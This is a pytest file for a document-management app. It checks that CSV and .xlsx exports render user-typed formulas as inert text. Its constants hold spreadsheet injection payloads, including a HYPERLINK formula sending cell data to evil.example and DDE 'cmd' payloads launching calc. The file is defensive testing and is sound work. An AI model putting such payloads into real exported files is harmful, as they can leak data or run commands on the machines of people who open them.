"""No text a user typed becomes a live formula in a CSV or .xlsx file the app writes
(CSV injection): every writer goes through docmgmt.formtools. Read back from the files."""

import csv
import io
import re
import zipfile
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from docmgmt.extensions import db
from tests.conftest import page_text

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'
DDE = "=cmd|' /C calc'!A0"
RISKY = (HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)")


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _assert_csv_inert(rows, *values):
    cells = [c for r in rows for c in r]
    for v in values:
        assert "'" + v in cells, v  # kept, readable, prefixed
        assert v not in cells, v  # never as it was typed
    for c in cells:
        assert not c.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(c), c


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_xlsx_inert(ws, *values):
    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}
    for v in values:
        assert v in cells, v  # the text itself, unchanged
        assert cells[v].data_type == "s" and cells[v].quotePrefix, v
    for c in cells.values():
        assert c.data_type != "f", c.value


@pytest.fixture
def evil_type(people):
    from docmgmt.records import operations as rops

    rt = rops.create_type(
        people["qm"],
        code="EV",
        name="回访记录",
        retention_months=12,
        fields=[
            {"name": "customer", "label": "客户", "kind": "text", "required": True},
            {"name": "note", "label": "备注", "kind": "text"},
            {"name": "delta", "label": "差额", "kind": "number"},
        ],
    )
    db.session.commit()
    return rt


def test_the_records_export_writes_typed_formulas_as_text(client, auth, people, evil_type):
    from docmgmt.records import operations as rops

    rops.file_record(
        people["staff"],
        evil_type,
        title=HYPERLINK,
        values={"customer": DDE, "note": "@SUM(A1:A9)", "delta": "-5"},
    )
    rops.file_record(
        people["staff"],
        evil_type,
        title="-2+3+cmd|' /C calc'!A0",
        values={"customer": "+1+cmd|' /C calc'!A0"},
    )
    db.session.commit()
    auth.login("qm")
    r = client.get("/records/export.csv")
    rows = _csv_rows(r.data)
    r.close()
    _assert_csv_inert(rows, *RISKY)
    assert "-5" in rows[1] + rows[2]  # a number stays a number
    r = client.get("/records/export.xlsx")
    ws = load_workbook(io.BytesIO(r.data)).active
    r.close()
    _assert_xlsx_inert(ws, *RISKY)
    numbers = [c.value for row in ws.iter_rows() for c in row if c.data_type == "n"]
    assert -5 in numbers


def test_the_import_error_report_writes_typed_formulas_as_text(
    client, people, token_for, evil_type
):
    qm = token_for(people["qm"])
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["工单号", "客户", "备注"])
    w.writerow([DDE, "", HYPERLINK])  # the customer is missing: an error row
    r = client.post(
        "/api/v1/record-types/EV/imports",
        data={"file": (io.BytesIO(buf.getvalue().encode()), "x.csv")},
        headers=qm,
        content_type="multipart/form-data",
    )
    imp = r.get_json()
    r = client.post(
        f"/api/v1/imports/{imp['id']}/run",
        json={"mode": "skip", "external_id_column": "工单号"},
        headers=qm,
    )
    assert r.get_json()["error_rows"] == 1
    r = client.get(f"/api/v1/imports/{imp['id']}/errors.csv", headers=qm)
    rows = _csv_rows(r.data)
    r.close()
    _assert_csv_inert(rows, DDE)


def test_the_master_list_and_training_workbooks_write_typed_formulas_as_text(
    client, auth, people, effective_doc, today
):
    from docmgmt.training import operations as tops

    effective_doc(title=HYPERLINK)
    tops.record_session(
        people["qm"],
        held_on=today,
        kind="classroom",
        topic=DDE,
        trainer_name="@SUM(A1:A9)",
        duration_minutes=60,
        attendees=[(people["staff"], "attended", None)],
    )
    db.session.commit()
    auth.login("qm")
    r = client.get("/register/master-list.xlsx")
    _assert_xlsx_inert(load_workbook(io.BytesIO(r.data)).active, HYPERLINK)
    r.close()
    r = client.get(f"/training/people/{people['staff'].id}/record.xlsx")
    _assert_xlsx_inert(load_workbook(io.BytesIO(r.data))["Training sessions"], DDE, "@SUM(A1:A9)")
    r.close()


def test_an_anonymous_log_in_name_stays_text_in_the_evidence_pack(
    client, auth, people, effective_doc, today
):
    effective_doc(title=HYPERLINK)
    r = client.post("/login", data={"username": DDE, "password": "x"})
    assert r.status_code == 401
    auth.login("qm")
    r = client.post(
        "/certification/packs",
        data={"from": (today - timedelta(days=1)).isoformat(), "to": today.isoformat()},
        follow_redirects=True,
    )
    assert "Download the evidence pack" in page_text(r)
    pack_id = re.search(r"/certification/packs/(\d+)/evidence.zip", r.get_data(as_text=True))[1]
    z = client.get(f"/certification/packs/{pack_id}/evidence.zip")
    archive = zipfile.ZipFile(io.BytesIO(z.data))
    z.close()
    _assert_csv_inert(_csv_rows(archive.read("07-audit-trail/audit-trail.csv")), DDE)
    _assert_csv_inert(_csv_rows(archive.read("01-master-list/master-list.csv")), HYPERLINK)
    for name in archive.namelist():
        if name.endswith(".csv"):
            _assert_csv_inert(_csv_rows(archive.read(name)))


def test_the_helpers_cover_tab_and_carriage_return():
    from openpyxl import Workbook

    from docmgmt.formtools import csv_bytes, xlsx_append

    rows = _csv_rows(csv_bytes([["\t=1+1", "\r=1+1", "ok", -3, None]]))
    assert rows[0][:4] == ["'\t=1+1", "'\r=1+1", "ok", "-3"]
    wb = Workbook()
    xlsx_append(wb.active, ["\t=1+1", "=1+1\x01", 7])
    cells = list(wb.active[1])
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert cells[1].value == "=1+1" and cells[1].quotePrefix


def test_an_exported_csv_imports_back_with_the_values_as_typed(
    client, auth, people, token_for, evil_type
):
    """The guard apostrophe the export puts before = + - @ is taken off again on import, and
    only there: a phone number +86…, a formula-looking title, a text that itself starts with
    an apostrophe come back exactly as typed."""
    from sqlalchemy import select

    from docmgmt.records import operations as rops
    from docmgmt.records.models import Record

    typed = [
        (HYPERLINK, {"customer": "+86 138 0013 8000", "note": "@张三 回访", "delta": "-5"}),
        ("-2+3", {"customer": "'=已加引号", "note": "'单引号开头"}),
        ("普通标题", {"customer": "O'Brien", "note": "''+两个引号"}),
    ]
    for n, (title, values) in enumerate(typed):
        r = rops.file_record(people["staff"], evil_type, title=title, values=values)
        r.external_id = f"T-{n}"
    db.session.commit()
    before = {
        r.external_id: (r.title, r.values)
        for r in db.session.scalars(select(Record).where(Record.type_id == evil_type.id))
    }
    rw = rops.create_type(
        people["qm"],
        code="EW",
        name="回访记录（迁入）",
        retention_months=12,
        fields=evil_type.fields,
    )
    db.session.commit()
    auth.login("qm")
    exported = client.get("/records/export.csv").data
    cells = [c for row in _csv_rows(exported) for c in row]
    assert "'+86 138 0013 8000" in cells and "'" + HYPERLINK in cells  # still guarded
    assert "''=已加引号" in cells and "'单引号开头" in cells and "O'Brien" in cells
    qm = token_for(people["qm"])
    r = client.post(
        "/api/v1/record-types/EW/imports",
        data={"file": (io.BytesIO(exported), "records.csv")},
        headers=qm,
        content_type="multipart/form-data",
    )
    assert r.status_code in (200, 201), r.get_json()
    imp = r.get_json()
    r = client.post(
        f"/api/v1/imports/{imp['id']}/run",
        json={"mode": "block", "external_id_column": "external_id", "title_column": "title"},
        headers=qm,
    )
    assert r.get_json()["error_rows"] == 0, r.get_json()
    after = {
        r.external_id: (r.title, r.values)
        for r in db.session.scalars(select(Record).where(Record.type_id == rw.id))
    }
    assert after == before
